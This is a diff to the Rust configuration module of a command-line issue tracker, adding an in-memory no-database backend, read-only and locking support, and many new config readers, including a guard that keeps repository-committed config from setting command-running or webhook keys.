@@ -9,22 +9,33 @@
 //! 6. DB config table
 //! 7. Defaults
 
+pub mod fields;
+pub mod label_defs;
+pub mod remotes;
 pub mod routing;
 
 use crate::error::{BeadsError, Result};
-use crate::model::{IssueType, Priority};
-use crate::storage::SqliteStorage;
+use crate::format::time::{self, TimeFormat, TimeStyle};
+use crate::model::{EventType, IssueType, Priority};
+use crate::storage::{Backend, MemoryStorage, SqliteStorage, Storage};
+use crate::sync::lock::LockFile;
+use crate::sync::shard::{self, ShardStrategy};
 use crate::sync::{
-    ExportConfig, ImportConfig, export_to_jsonl_with_policy, finalize_export, import_from_jsonl,
+    ExportConfig, ensure_no_conflict_markers, export_to_jsonl_with_policy, finalize_export,
+    validate_sync_path_with_external,
 };
 use crate::util::id::IdConfig;
+use crate::validation::{POLICY_FIELDS, PolicyRule, PolicyTrigger};
+use beads_lib::InMemoryStore;
 use serde::{Deserialize, Serialize};
-use std::collections::{HashMap, HashSet};
+use std::collections::{BTreeMap, HashMap, HashSet};
 use std::env;
+use std::ffi::OsStr;
 use std::fs;
 use std::io::{BufRead, IsTerminal};
 use std::path::{Path, PathBuf};
 use std::str::FromStr;
+use std::time::Duration;
 use tracing::warn;
 
 /// Default database filename used when metadata is missing.
@@ -43,6 +54,9 @@ const EXCLUDED_JSONL_FILES: &[&str] = &[
     "beads.left.jsonl",
     "beads.right.jsonl",
     "sync_base.jsonl",
+    "remotes.jsonl",
+    "labels.jsonl",
+    "webhooks-dead.jsonl",
 ];
 
 /// Startup metadata describing DB + JSONL paths.
@@ -310,42 +324,63 @@ pub fn open_storage(
 /// Storage handle with no-db awareness.
 #[derive(Debug)]
 pub struct OpenStorageResult {
-    pub storage: SqliteStorage,
+    pub storage: Backend,
     pub paths: ConfigPaths,
     pub no_db: bool,
+    /// JSONL layout from `sync.shard`.
+    pub shard: ShardStrategy,
 }
 
 impl OpenStorageResult {
-    /// Flush JSONL if no-db mode is enabled and there are dirty issues.
+    /// Save the JSONL file if `--no-db` changed an issue and storage is
+    /// writable.
     ///
     /// # Errors
     ///
-    /// Returns an error if JSONL export fails.
+    /// Returns an error if the JSONL file cannot be written.
     pub fn flush_no_db_if_dirty(&mut self) -> Result<()> {
-        if !self.no_db {
+        if self.storage.is_read_only() {
             return Ok(());
         }
+        match &mut self.storage {
+            Backend::Memory(storage) if storage.is_dirty() => {
+                storage.save_to(&self.paths.jsonl_path)
+            }
+            _ => Ok(()),
+        }
+    }
 
-        if self.storage.get_dirty_issue_count()? == 0 {
-            return Ok(());
+    /// Rewrite the JSONL after `delete --hard`, in every mode.
+    ///
+    /// A purged issue leaves nothing dirty behind, and until the JSONL
+    /// stops listing it every later export would refuse to drop it.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if JSONL export fails.
+    pub fn export_after_purge(&mut self, purged_ids: &[String]) -> Result<()> {
+        if let Backend::Memory(storage) = &mut self.storage {
+            return storage.save_to(&self.paths.jsonl_path);
         }
+        self.export_jsonl(purged_ids.to_vec())
+    }
 
+    fn export_jsonl(&mut self, purged_ids: Vec<String>) -> Result<()> {
         let export_config = ExportConfig {
             force: false,
             is_default_path: self.paths.jsonl_path == self.paths.beads_dir.join("issues.jsonl"),
             beads_dir: Some(self.paths.beads_dir.clone()),
             allow_external_jsonl: false,
             show_progress: false,
+            shard: self.shard,
+            purged_ids,
             ..Default::default()
         };
 
+        let storage = self.storage.sqlite_mut("export")?;
         let (export_result, _report) =
-            export_to_jsonl_with_policy(&self.storage, &self.paths.jsonl_path, &export_config)?;
-        finalize_export(
-            &mut self.storage,
-            &export_result,
-            Some(&export_result.issue_hashes),
-        )?;
+            export_to_jsonl_with_policy(storage, &self.paths.jsonl_path, &export_config)?;
+        finalize_export(storage, &export_result, Some(&export_result.issue_hashes))?;
 
         Ok(())
     }
@@ -362,6 +397,8 @@ pub fn open_storage_with_cli(beads_dir: &Path, cli: &CliOverrides) -> Result<Ope
     let merged_layer = ConfigLayer::merge_layers(&[startup_layer, cli_layer]);
 
     let no_db = no_db_from_layer(&merged_layer).unwrap_or(false);
+    let read_only = read_only_from_layer(&merged_layer);
+    let shard = shard_strategy_from_layer(&merged_layer)?;
 
     let resolved_db_override = cli
         .db
@@ -372,47 +409,120 @@ pub fn open_storage_with_cli(beads_dir: &Path, cli: &CliOverrides) -> Result<Ope
         .or_else(|| lock_timeout_from_layer(&merged_layer))
         .or(Some(30000));
 
+    // BD_SESSION / BEADS_SESSION / config win over `br session start`
+    let session_id = session_id_from_layer(&merged_layer)
+        .or_else(|| crate::util::get_current_session(beads_dir));
+
     let paths = ConfigPaths::resolve(beads_dir, resolved_db_override.as_ref())?;
 
     if no_db {
-        let mut storage = SqliteStorage::open_memory()?;
-        let prefix = resolve_no_db_prefix(beads_dir, &paths.jsonl_path)?;
-        storage.set_config("issue_prefix", &prefix)?;
-
-        if paths.jsonl_path.is_file() {
-            let import_config = ImportConfig {
-                beads_dir: Some(beads_dir.to_path_buf()),
-                allow_external_jsonl: false,
-                show_progress: false,
-                ..Default::default()
-            };
-            import_from_jsonl(
-                &mut storage,
-                &paths.jsonl_path,
-                &import_config,
-                Some(&prefix),
-            )?;
+        let mut storage = open_no_db(beads_dir, &paths.jsonl_path, shard)?;
+        storage.set_session_id(session_id);
+        if read_only {
+            storage.set_read_only();
         }
 
         Ok(OpenStorageResult {
-            storage,
+            storage: Backend::Memory(Box::new(storage)),
             paths,
             no_db,
+            shard,
         })
     } else {
-        let storage = SqliteStorage::open_with_timeout(&paths.db_path, resolved_lock_timeout)?;
+        let mut storage = if read_only {
+            SqliteStorage::open_read_only(&paths.db_path, resolved_lock_timeout)?
+        } else {
+            SqliteStorage::open_with_timeout(&paths.db_path, resolved_lock_timeout)?
+        };
+        storage.set_session_id(session_id);
+        storage.refresh_blocked_cache_if_due()?;
         Ok(OpenStorageResult {
-            storage,
+            storage: Backend::Sqlite(storage),
             paths,
             no_db,
+            shard,
         })
     }
 }
 
+/// Take the workspace lock (`.beads/.lock`) for a mutating command or sync.
+///
+/// Waits up to the lock timeout (`--lock-timeout` or `lock-timeout`, default
+/// 30s) for another `br` run to finish.
+///
+/// # Errors
+///
+/// Returns `Locked` if another run still holds the lock after the timeout,
+/// or an error if configuration cannot be loaded or the lock file cannot be
+/// created.
+pub fn lock_workspace_with_cli(beads_dir: &Path, cli: &CliOverrides) -> Result<LockFile> {
+    let startup_layer = load_startup_config(beads_dir)?;
+    let merged_layer = ConfigLayer::merge_layers(&[startup_layer, cli.as_layer()]);
+    LockFile::workspace(
+        beads_dir,
+        &actor(&merged_layer),
+        resolve_lock_timeout(&merged_layer),
+    )
+}
+
+/// Whether `BEADS_READONLY` asks for read-only mode.
+#[must_use]
+pub fn read_only_from_env() -> bool {
+    env::var("BEADS_READONLY")
+        .ok()
+        .and_then(|value| parse_bool(&value))
+        .unwrap_or(false)
+}
+
+fn read_only_from_layer(layer: &ConfigLayer) -> bool {
+    get_startup_value(layer, &["read-only", "read_only"])
+        .and_then(|value| parse_bool(value))
+        .unwrap_or(false)
+}
+
+fn resolve_lock_timeout(layer: &ConfigLayer) -> Duration {
+    Duration::from_millis(lock_timeout_from_layer(layer).unwrap_or(30000))
+}
+
 fn no_db_from_layer(layer: &ConfigLayer) -> Option<bool> {
     get_startup_value(layer, &["no-db", "no_db", "no.db"]).and_then(|value| parse_bool(value))
 }
 
+/// Whether `--no-db` or the `no-db` config key selects JSONL-only mode.
+///
+/// # Errors
+///
+/// Returns an error if the startup configuration cannot be loaded.
+pub fn no_db_with_cli(beads_dir: &Path, cli: &CliOverrides) -> Result<bool> {
+    let startup_layer = load_startup_config(beads_dir)?;
+    let merged_layer = ConfigLayer::merge_layers(&[startup_layer, cli.as_layer()]);
+    Ok(no_db_from_layer(&merged_layer).unwrap_or(false))
+}
+
+/// Load the JSONL file into memory for `--no-db`, without touching SQLite.
+fn open_no_db(beads_dir: &Path, jsonl_path: &Path, shard: ShardStrategy) -> Result<MemoryStorage> {
+    let sources = shard::jsonl_sources(jsonl_path);
+    if shard != ShardStrategy::None || sources.len() > 1 || sources[0] != jsonl_path {
+        return Err(BeadsError::Config(
+            "--no-db reads a single JSONL file; sharded exports (sync.shard) need the database"
+                .to_string(),
+        ));
+    }
+    validate_sync_path_with_external(jsonl_path, beads_dir, false)?;
+
+    let prefix = resolve_no_db_prefix(beads_dir, jsonl_path)?;
+    let store = if jsonl_path.exists() {
+        ensure_no_conflict_markers(jsonl_path)?;
+        InMemoryStore::open(jsonl_path)?
+    } else {
+        InMemoryStore::new()
+    };
+    let mut storage = MemoryStorage::new(store);
+    storage.store_mut().set_prefix(prefix.as_str());
+    storage.set_config("issue_prefix", &prefix)?;
+    Ok(storage)
+}
+
 fn resolve_no_db_prefix(beads_dir: &Path, jsonl_path: &Path) -> Result<String> {
     let project_layer = load_project_config(beads_dir)?;
     if let Some(prefix) = get_value(&project_layer, &["issue_prefix", "issue-prefix", "prefix"]) {
@@ -440,41 +550,43 @@ fn resolve_no_db_prefix(beads_dir: &Path, jsonl_path: &Path) -> Result<String> {
 }
 
 fn common_prefix_from_jsonl(jsonl_path: &Path) -> Result<Option<String>> {
-    if !jsonl_path.is_file() {
+    if !shard::jsonl_exists(jsonl_path) {
         return Ok(None);
     }
 
-    let file = std::fs::File::open(jsonl_path)?;
-    let reader = std::io::BufReader::new(file);
     let mut prefixes: HashSet<String> = HashSet::new();
+    for source in shard::jsonl_sources(jsonl_path) {
+        let file = std::fs::File::open(source)?;
+        let reader = std::io::BufReader::new(file);
+
+        for (line_num, line) in reader.lines().enumerate() {
+            let line = line?;
+            let trimmed = line.trim();
+            if trimmed.is_empty() {
+                continue;
+            }
 
-    for (line_num, line) in reader.lines().enumerate() {
-        let line = line?;
-        let trimmed = line.trim();
-        if trimmed.is_empty() {
-            continue;
-        }
-
-        let value: serde_json::Value = serde_json::from_str(trimmed).map_err(|e| {
-            BeadsError::Config(format!("Invalid JSON at line {}: {}", line_num + 1, e))
-        })?;
-        let Some(id) = value.get("id").and_then(|v| v.as_str()) else {
-            continue;
-        };
+            let value: serde_json::Value = serde_json::from_str(trimmed).map_err(|e| {
+                BeadsError::Config(format!("Invalid JSON at line {}: {}", line_num + 1, e))
+            })?;
+            let Some(id) = value.get("id").and_then(|v| v.as_str()) else {
+                continue;
+            };
 
-        let Some((prefix, _)) = id.split_once('-') else {
-            return Err(BeadsError::InvalidId { id: id.to_string() });
-        };
-        if prefix.is_empty() {
-            return Err(BeadsError::InvalidId { id: id.to_string() });
-        }
+            let Some((prefix, _)) = id.split_once('-') else {
+                return Err(BeadsError::InvalidId { id: id.to_string() });
+            };
+            if prefix.is_empty() {
+                return Err(BeadsError::InvalidId { id: id.to_string() });
+            }
 
-        prefixes.insert(prefix.to_string());
-        if prefixes.len() > 1 {
-            return Err(BeadsError::Config(
-                "Mixed issue prefixes detected in JSONL. Set issue-prefix in .beads/config.yaml."
-                    .to_string(),
-            ));
+            prefixes.insert(prefix.to_string());
+            if prefixes.len() > 1 {
+                return Err(BeadsError::Config(
+                    "Mixed issue prefixes detected in JSONL. Set issue-prefix in .beads/config.yaml."
+                        .to_string(),
+                ));
+            }
         }
     }
 
@@ -616,6 +728,17 @@ impl ConfigLayer {
             }
         }
 
+        // BEADS_* aliases; the BD_* spelling wins when both are set.
+        if let Ok(value) = env::var("BEADS_ACTOR") {
+            if get_startup_value(&layer, &["actor"]).is_none() {
+                insert_key_value(&mut layer, "actor", value);
+            }
+        }
+        if let Ok(value) = env::var("BEADS_SESSION") {
+            if get_startup_value(&layer, &["session"]).is_none() {
+                insert_key_value(&mut layer, "session", value);
+            }
+        }
         if let Ok(value) = env::var("BEADS_FLUSH_DEBOUNCE") {
             insert_key_value(&mut layer, "flush-debounce", value);
         }
@@ -639,7 +762,7 @@ impl ConfigLayer {
     /// # Errors
     ///
     /// Returns an error if config table lookup fails.
-    pub fn from_db(storage: &SqliteStorage) -> Result<Self> {
+    pub fn from_db(storage: &dyn Storage) -> Result<Self> {
         let mut layer = Self::default();
         let map = storage.get_all_config()?;
         for (key, value) in map {
@@ -660,12 +783,14 @@ pub struct CliOverrides {
     pub identity: Option<String>,
     pub json: Option<bool>,
     pub display_color: Option<bool>,
+    pub absolute_time: Option<bool>,
     pub quiet: Option<bool>,
     pub no_db: Option<bool>,
     pub no_daemon: Option<bool>,
     pub no_auto_flush: Option<bool>,
     pub no_auto_import: Option<bool>,
     pub lock_timeout: Option<u64>,
+    pub read_only: Option<bool>,
 }
 
 impl CliOverrides {
@@ -688,6 +813,9 @@ impl CliOverrides {
         if let Some(display_color) = self.display_color {
             insert_key_value(&mut layer, "display.color", display_color.to_string());
         }
+        if self.absolute_time == Some(true) {
+            insert_key_value(&mut layer, "display.time", "absolute".to_string());
+        }
         if let Some(no_db) = self.no_db {
             insert_key_value(&mut layer, "no-db", no_db.to_string());
         }
@@ -703,6 +831,9 @@ impl CliOverrides {
         if let Some(lock_timeout) = self.lock_timeout {
             insert_key_value(&mut layer, "lock-timeout", lock_timeout.to_string());
         }
+        if let Some(read_only) = self.read_only {
+            insert_key_value(&mut layer, "read-only", read_only.to_string());
+        }
 
         layer
     }
@@ -767,6 +898,49 @@ pub fn load_startup_config(beads_dir: &Path) -> Result<ConfigLayer> {
     ]))
 }
 
+/// Keys a cloned repository must not be able to set, because they run
+/// commands on the user's machine (`alerts.*`) or send issue data to other
+/// hosts (`webhooks.*`).
+const USER_ONLY_KEY_PREFIXES: &[&str] = &["alerts.", "webhooks."];
+
+/// Whether `key` is read only from user config and the environment, never
+/// from the committed `.beads/config.yaml`.
+#[must_use]
+pub fn is_user_only_key(key: &str) -> bool {
+    let normalized = normalize_key(key);
+    USER_ONLY_KEY_PREFIXES
+        .iter()
+        .any(|prefix| normalized.starts_with(prefix))
+}
+
+/// Load the startup layers the user controls (user YAML + env), for the keys
+/// in [`is_user_only_key`].
+///
+/// # Errors
+///
+/// Returns `Config` if `.beads/config.yaml` sets a user-only key, or an
+/// error if any config file cannot be read or parsed.
+pub fn load_user_startup_config(beads_dir: &Path) -> Result<ConfigLayer> {
+    let project = load_project_config(beads_dir)?;
+    if let Some(key) = project
+        .startup
+        .keys()
+        .chain(project.runtime.keys())
+        .find(|key| is_user_only_key(key))
+    {
+        return Err(BeadsError::Config(format!(
+            "{key} cannot be set in .beads/config.yaml, which is shared with everyone who \
+             clones the repository; set it in ~/.config/beads/config.yaml or the environment"
+        )));
+    }
+
+    Ok(ConfigLayer::merge_layers(&[
+        load_legacy_user_config()?,
+        load_user_config()?,
+        ConfigLayer::from_env(),
+    ]))
+}
+
 /// Default config layer (lowest precedence).
 #[must_use]
 pub fn default_config_layer() -> ConfigLayer {
@@ -784,7 +958,7 @@ pub fn default_config_layer() -> ConfigLayer {
 /// Returns an error if any config file cannot be read or parsed, or DB access fails.
 pub fn load_config(
     beads_dir: &Path,
-    storage: Option<&SqliteStorage>,
+    storage: Option<&dyn Storage>,
     cli: &CliOverrides,
 ) -> Result<ConfigLayer> {
     let defaults = default_config_layer();
@@ -827,9 +1001,41 @@ pub fn id_config_from_layer(layer: &ConfigLayer) -> IdConfig {
         min_hash_length,
         max_hash_length,
         max_collision_prob,
+        salt: id_salt_from_layer(layer),
     }
 }
 
+/// Resolve the ID seed salt from the `id.salt` config key.
+///
+/// - `machine` (default): the host name, so branches created on different
+///   machines never derive the same ID for the same issue.
+/// - `session`: the session ID, falling back to the host name when unset.
+/// - `none` / `off`: no salt (classic bd IDs).
+/// - anything else is used verbatim.
+#[must_use]
+pub fn id_salt_from_layer(layer: &ConfigLayer) -> Option<String> {
+    let mode = get_value(layer, &["id.salt", "id-salt", "id_salt"])
+        .map(|value| value.trim().to_string())
+        .filter(|value| !value.is_empty())
+        .unwrap_or_else(|| "machine".to_string());
+
+    match mode.to_ascii_lowercase().as_str() {
+        "none" | "off" => None,
+        "machine" => host_name(),
+        "session" => session_id_from_layer(layer).or_else(host_name),
+        _ => Some(mode),
+    }
+}
+
+fn host_name() -> Option<String> {
+    ["HOSTNAME", "COMPUTERNAME"]
+        .iter()
+        .filter_map(|key| env::var(key).ok())
+        .chain(fs::read_to_string("/etc/hostname").ok())
+        .map(|value| value.trim().to_string())
+        .find(|value| !value.is_empty())
+}
+
 /// Resolve default priority for new issues from config.
 ///
 /// # Errors
@@ -850,30 +1056,234 @@ pub fn default_issue_type_from_layer(layer: &ConfigLayer) -> Result<IssueType> {
         .map_or_else(|| Ok(IssueType::Task), |value| IssueType::from_str(value))
 }
 
+/// Field defaults for one issue type, applied by `create` and `q` when the
+/// user doesn't set the field.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct TypeDefaults {
+    pub priority: Option<Priority>,
+    /// Added to any labels given on the command line.
+    pub labels: Vec<String>,
+    pub description: Option<String>,
+    pub design: Option<String>,
+    pub acceptance_criteria: Option<String>,
+    pub notes: Option<String>,
+    pub assignee: Option<String>,
+}
+
+/// Resolve per-type field defaults from config, keyed by issue type.
+///
+/// Reads `type_defaults.<type>.<field>` (or `type-defaults.`) keys, e.g.:
+///
+/// ```yaml
+/// type_defaults:
+///   bug:
+///     priority: 1
+///     labels: [bug]
+///     acceptance_criteria: "Steps to reproduce no longer fail"
+/// ```
+///
+/// # Errors
+///
+/// Returns an error if a field name is unknown or a priority is invalid.
+pub fn type_defaults_from_layer(layer: &ConfigLayer) -> Result<HashMap<String, TypeDefaults>> {
+    let mut map: HashMap<String, TypeDefaults> = HashMap::new();
+
+    for (key, value) in &layer.runtime {
+        let key_lower = key.to_lowercase();
+        let Some(rest) = key_lower
+            .strip_prefix("type_defaults.")
+            .or_else(|| key_lower.strip_prefix("type-defaults."))
+        else {
+            continue;
+        };
+        let Some((issue_type, field)) = rest.rsplit_once('.') else {
+            continue;
+        };
+
+        let defaults = map.entry(issue_type.trim().to_string()).or_default();
+        let text = Some(value.clone()).filter(|v| !v.trim().is_empty());
+        match field.replace('-', "_").as_str() {
+            "priority" => defaults.priority = Some(Priority::from_str(value)?),
+            "labels" => {
+                defaults.labels = value
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|label| !label.is_empty())
+                    .map(str::to_string)
+                    .collect();
+            }
+            "description" => defaults.description = text,
+            "design" => defaults.design = text,
+            "acceptance_criteria" => defaults.acceptance_criteria = text,
+            "notes" => defaults.notes = text,
+            "assignee" => defaults.assignee = text,
+            _ => {
+                return Err(BeadsError::Config(format!(
+                    "Unknown field in {key}: expected priority, labels, description, design, \
+                     acceptance_criteria, notes, or assignee"
+                )));
+            }
+        }
+    }
+
+    Ok(map)
+}
+
+/// Resolve required-field policies from config.
+///
+/// Reads `policies.on_close.<selector>` and `policies.always.<selector>` keys,
+/// where the selector is an issue type, a priority (`p0`-`p4`), or `all`:
+///
+/// ```yaml
+/// policies:
+///   on_close:
+///     bug: [acceptance_criteria]
+///   always:
+///     p0: [assignee]
+/// ```
+///
+/// # Errors
+///
+/// Returns an error if a trigger or required field name is unknown.
+pub fn policy_rules_from_layer(layer: &ConfigLayer) -> Result<Vec<PolicyRule>> {
+    let mut rules = Vec::new();
+
+    for (key, value) in &layer.runtime {
+        let key_lower = key.to_lowercase();
+        let Some(rest) = key_lower.strip_prefix("policies.") else {
+            continue;
+        };
+        let Some((trigger, selector)) = rest.split_once('.') else {
+            continue;
+        };
+        let trigger = match trigger.replace('-', "_").as_str() {
+            "on_close" => PolicyTrigger::OnClose,
+            "always" => PolicyTrigger::Always,
+            _ => {
+                return Err(BeadsError::Config(format!(
+                    "Unknown policy trigger in {key}: expected on_close or always"
+                )));
+            }
+        };
+
+        let mut fields = Vec::new();
+        for field in value.split(',').map(str::trim).filter(|f| !f.is_empty()) {
+            let field = field.replace('-', "_");
+            if !POLICY_FIELDS.contains(&field.as_str()) {
+                return Err(BeadsError::Config(format!(
+                    "Unknown field '{field}' in {key}: expected one of {}",
+                    POLICY_FIELDS.join(", ")
+                )));
+            }
+            fields.push(field);
+        }
+
+        rules.push(PolicyRule {
+            trigger,
+            selector: selector.trim().to_string(),
+            fields,
+        });
+    }
+
+    rules.sort_by(|a, b| (a.trigger, &a.selector).cmp(&(b.trigger, &b.selector)));
+    Ok(rules)
+}
+
 /// Resolve display color preference from a merged config layer.
 ///
-/// Accepts keys: `display.color`, `display-color`, `display_color`.
+/// Accepts keys: `display.color`, `display-color`, `display_color`, with a
+/// boolean or `always`/`never`; `auto` (like unset) gives `None`.
 #[must_use]
 pub fn display_color_from_layer(layer: &ConfigLayer) -> Option<bool> {
-    get_value(layer, &["display.color", "display-color", "display_color"])
-        .and_then(|value| parse_bool(value))
+    get_value(layer, &["display.color", "display-color", "display_color"]).and_then(|value| {
+        match value.trim().to_lowercase().as_str() {
+            "always" => Some(true),
+            "never" => Some(false),
+            _ => parse_bool(value),
+        }
+    })
 }
 
 /// Determine whether human-readable output should use ANSI color.
 ///
 /// Precedence:
-/// 1) Config `display.color` (if set)
-/// 2) `NO_COLOR` environment variable (standard)
-/// 3) stdout is a terminal
+/// 1) `--color`/`--no-color`, then config `display.color` (if set)
+/// 2) [`auto_color`]
 #[must_use]
 pub fn should_use_color(layer: &ConfigLayer) -> bool {
-    if let Some(value) = display_color_from_layer(layer) {
-        return value;
+    display_color_from_layer(layer).unwrap_or_else(auto_color)
+}
+
+/// Whether to color when nothing forces it either way: stdout is a
+/// terminal, `NO_COLOR` is unset or empty, and `TERM` is not `dumb`.
+#[must_use]
+pub fn auto_color() -> bool {
+    auto_color_from(
+        env::var_os("NO_COLOR").as_deref(),
+        env::var_os("TERM").as_deref(),
+        std::io::stdout().is_terminal(),
+    )
+}
+
+fn auto_color_from(no_color: Option<&OsStr>, term: Option<&OsStr>, is_terminal: bool) -> bool {
+    is_terminal && no_color.is_none_or(OsStr::is_empty) && term.is_none_or(|term| term != "dumb")
+}
+
+/// Maximum width of `--format table` output from `table.max_width`
+/// (0 for no limit). `None` when unset, leaving the terminal width in charge.
+#[must_use]
+pub fn table_max_width_from_layer(layer: &ConfigLayer) -> Option<usize> {
+    parse_usize(
+        layer,
+        &["table.max_width", "table.max-width", "table_max_width"],
+    )
+}
+
+/// Timestamp rendering for text output from `display.time` (`relative` or
+/// `absolute`), `display.date_format` and `display.datetime_format`.
+///
+/// # Errors
+///
+/// Returns a config error for an unknown `display.time` or a bad strftime
+/// format.
+pub fn time_format_from_layer(layer: &ConfigLayer) -> Result<TimeFormat> {
+    let mut format = TimeFormat::default();
+    if let Some(value) = get_value(layer, &["display.time", "display-time", "display_time"]) {
+        format.style = match value.trim().to_lowercase().as_str() {
+            "relative" => TimeStyle::Relative,
+            "absolute" => TimeStyle::Absolute,
+            _ => {
+                return Err(BeadsError::Config(format!(
+                    "display.time must be relative or absolute, got '{value}'"
+                )));
+            }
+        };
     }
-    if env::var_os("NO_COLOR").is_some() {
-        return false;
+    for (key, target) in [
+        ("display.date_format", &mut format.date_format),
+        ("display.datetime_format", &mut format.datetime_format),
+    ] {
+        if let Some(value) = get_value(layer, &[key]) {
+            time::validate_format(key, value)?;
+            target.clone_from(value);
+        }
     }
-    std::io::stdout().is_terminal()
+    Ok(format)
+}
+
+/// Theme style overrides from `theme.<role>` keys, e.g.
+/// `theme.issue_id: "bold magenta"`. Roles are lowercased with `-` read as `_`.
+#[must_use]
+pub fn theme_overrides_from_layer(layer: &ConfigLayer) -> BTreeMap<String, String> {
+    layer
+        .startup
+        .iter()
+        .chain(layer.runtime.iter())
+        .filter_map(|(key, value)| {
+            let role = key.to_lowercase().strip_prefix("theme.")?.replace('-', "_");
+            Some((role, value.trim().to_string()))
+        })
+        .collect()
 }
 
 /// Resolve external project mappings from config.
@@ -969,19 +1379,51 @@ pub fn actor_from_layer(layer: &ConfigLayer) -> Option<String> {
         .map(str::to_string)
 }
 
-/// Resolve actor with fallback to USER and a safe default.
+/// Resolve the acting identity recorded on issues, events, and comments.
+///
+/// Precedence: `--actor` flag > `BD_ACTOR`/`BEADS_ACTOR` env > config file `actor`
+/// > git `user.name` > OS user (`USER`/`USERNAME`) > `"unknown"`.
 #[must_use]
-pub fn resolve_actor(layer: &ConfigLayer) -> String {
+pub fn actor(layer: &ConfigLayer) -> String {
     actor_from_layer(layer)
-        .or_else(|| {
-            std::env::var("USER")
-                .ok()
-                .map(|value| value.trim().to_string())
-        })
-        .filter(|value| !value.is_empty())
+        .or_else(git_user_name)
+        .or_else(os_user_name)
         .unwrap_or_else(|| "unknown".to_string())
 }
 
+/// Resolve the optional session ID (`BD_SESSION`/`BEADS_SESSION` env or `session` config key).
+///
+/// When set, it is recorded on audit events and as `closed_by_session` on closes.
+/// Storage falls back to the session started with `br session start`.
+#[must_use]
+pub fn session_id_from_layer(layer: &ConfigLayer) -> Option<String> {
+    get_startup_value(layer, &["session", "session-id"])
+        .map(|value| value.trim())
+        .filter(|value| !value.is_empty())
+        .map(str::to_string)
+}
+
+fn git_user_name() -> Option<String> {
+    let output = std::process::Command::new("git")
+        .args(["config", "--get", "user.name"])
+        .output()
+        .ok()?;
+    if !output.status.success() {
+        return None;
+    }
+
+    let name = String::from_utf8_lossy(&output.stdout).trim().to_string();
+    if name.is_empty() { None } else { Some(name) }
+}
+
+fn os_user_name() -> Option<String> {
+    ["USER", "USERNAME"]
+        .iter()
+        .filter_map(|key| env::var(key).ok())
+        .map(|value| value.trim().to_string())
+        .find(|value| !value.is_empty())
+}
+
 /// Read the `claim-exclusive` config key.
 ///
 /// When true, `--claim` rejects re-claims even by the same actor.
@@ -992,6 +1434,374 @@ pub fn claim_exclusive_from_layer(layer: &ConfigLayer) -> bool {
         .is_some_and(|v| v.eq_ignore_ascii_case("true") || v == "1")
 }
 
+/// Read the `sync.shard` config key (`none` or `status`).
+///
+/// # Errors
+///
+/// Returns an error if the configured value is not a known strategy.
+pub fn shard_strategy_from_layer(layer: &ConfigLayer) -> Result<ShardStrategy> {
+    get_startup_value(layer, &["sync.shard"]).map_or(Ok(ShardStrategy::None), |value| value.parse())
+}
+
+/// Read the `strict_labels` config key.
+///
+/// When true, adding a label without a definition in `labels.jsonl` warns.
+#[must_use]
+pub fn strict_labels_from_layer(layer: &ConfigLayer) -> bool {
+    get_value(layer, &["strict_labels", "strict-labels"])
+        .and_then(|v| parse_bool(v))
+        .unwrap_or(false)
+}
+
+/// Read the `auto_close_duplicates` config key.
+///
+/// When true, `br dep add A B --type duplicates` also closes A as a
+/// duplicate of B.
+#[must_use]
+pub fn auto_close_duplicates_from_layer(layer: &ConfigLayer) -> bool {
+    get_value(layer, &["auto_close_duplicates", "auto-close-duplicates"])
+        .and_then(|v| parse_bool(v))
+        .unwrap_or(false)
+}
+
+/// What `br create` does when a new issue looks like an existing open issue.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum DuplicateCheck {
+    /// Don't look for duplicates
+    Off,
+    /// Create the issue and list the suspected duplicates
+    #[default]
+    Warn,
+    /// Refuse to create the issue unless `--allow-duplicate` is given
+    Block,
+}
+
+/// Read the `create.duplicates` config key (`off`, `warn` or `block`).
+///
+/// # Errors
+///
+/// Returns an error if the configured value is not one of the above.
+pub fn duplicate_check_from_layer(layer: &ConfigLayer) -> Result<DuplicateCheck> {
+    let Some(value) = get_value(layer, &["create.duplicates"]) else {
+        return Ok(DuplicateCheck::default());
+    };
+    match value.trim().to_lowercase().as_str() {
+        "off" => Ok(DuplicateCheck::Off),
+        "warn" => Ok(DuplicateCheck::Warn),
+        "block" => Ok(DuplicateCheck::Block),
+        _ => Err(BeadsError::Config(format!(
+            "create.duplicates must be off, warn or block, got '{value}'"
+        ))),
+    }
+}
+
+/// What `br close` does when the issue being closed has open children.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum CloseChildren {
+    /// Close the open descendants too, as if `--cascade` were given
+    Cascade,
+    /// Refuse to close the parent unless `--cascade` or `--force` is given
+    Block,
+    /// Close the parent and list the children left open
+    #[default]
+    Warn,
+}
+
+/// Read the `close.children` config key (`cascade`, `block` or `warn`).
+///
+/// # Errors
+///
+/// Returns an error if the configured value is not one of the above.
+pub fn close_children_from_layer(layer: &ConfigLayer) -> Result<CloseChildren> {
+    let Some(value) = get_value(layer, &["close.children"]) else {
+        return Ok(CloseChildren::default());
+    };
+    match value.trim().to_lowercase().as_str() {
+        "cascade" => Ok(CloseChildren::Cascade),
+        "block" => Ok(CloseChildren::Block),
+        "warn" => Ok(CloseChildren::Warn),
+        _ => Err(BeadsError::Config(format!(
+            "close.children must be cascade, block or warn, got '{value}'"
+        ))),
+    }
+}
+
+/// Default age in days after which `br gc` removes ephemeral issues.
+pub const DEFAULT_GC_EPHEMERAL_TTL_DAYS: i64 = 7;
+
+/// Read the ephemeral issue TTL (in days) used by `br gc`.
+///
+/// Accepts `gc.ephemeral_ttl_days` or `gc.ephemeral-ttl-days`; falls back to
+/// [`DEFAULT_GC_EPHEMERAL_TTL_DAYS`] when unset.
+///
+/// # Errors
+///
+/// Returns an error if the configured value is not a non-negative integer.
+pub fn gc_ephemeral_ttl_days_from_layer(layer: &ConfigLayer) -> Result<i64> {
+    let Some(value) = get_value(layer, &["gc.ephemeral_ttl_days", "gc.ephemeral-ttl-days"]) else {
+        return Ok(DEFAULT_GC_EPHEMERAL_TTL_DAYS);
+    };
+    match value.trim().parse::<i64>() {
+        Ok(days) if days >= 0 => Ok(days),
+        _ => Err(BeadsError::Config(format!(
+            "gc.ephemeral_ttl_days must be a non-negative integer, got '{value}'"
+        ))),
+    }
+}
+
+/// How the aging boost grows with an issue's age.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum AgingCurve {
+    /// One priority level per `days_per_level` days
+    #[default]
+    Linear,
+    /// Grows quickly at first, then flattens (`log2(1 + days / days_per_level)`)
+    Log,
+}
+
